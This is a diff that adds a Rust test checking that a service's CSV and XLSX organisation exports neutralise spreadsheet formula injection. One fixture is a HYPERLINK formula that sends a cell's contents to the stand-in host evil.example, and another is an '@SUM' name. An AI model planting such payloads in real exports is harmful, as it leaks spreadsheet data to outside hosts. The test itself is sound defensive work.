@@ -342,3 +342,27 @@ async fn audit_page_for_auditors_only() {
     b.login("banker", PW).await;
     assert_eq!(b.get("/audit").await.status, StatusCode::FORBIDDEN);
 }
+
+#[tokio::test]
+async fn csv_exports_do_not_carry_formulas() {
+    let app = app().await;
+    let op = kebao_service::authz::Actor::System { name: "test".into() };
+    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此查看\")";
+    app.svc.create_org(&op, &org(evil, 95, "enterprise")).await.unwrap();
+    app.svc.create_org(&op, &org("@SUM(1+1)科技有限公司", 96, "enterprise")).await.unwrap();
+    let mut c = Client::new(&app);
+    c.login("reviewer", PW).await;
+    let r = c.get("/orgs/export.csv").await;
+    assert_eq!(r.status, StatusCode::OK);
+    let t = kebao_service::tabular::read(&r.body, kebao_service::tabular::Format::Csv).unwrap();
+    let names: Vec<&str> = (0..t.rows.len()).map(|i| t.cell(i, t.column(&["name", "名称"]))).collect();
+    assert!(names.contains(&format!("'{evil}").as_str()), "{names:?}");
+    assert!(names.contains(&"'@SUM(1+1)科技有限公司"), "{names:?}");
+    assert!(!names.iter().any(|n| n.starts_with(['=', '+', '-', '@'])), "{names:?}");
+    // The workbook keeps the name as it is: a string cell, never a formula.
+    let x = c.get("/orgs/export.xlsx").await;
+    let t = kebao_service::tabular::read(&x.body, kebao_service::tabular::Format::Xlsx).unwrap();
+    let names: Vec<&str> = (0..t.rows.len()).map(|i| t.cell(i, t.column(&["name", "名称"]))).collect();
+    assert!(names.contains(&evil), "{names:?}");
+    assert!(!String::from_utf8_lossy(&x.body).contains("<f>"));
+}
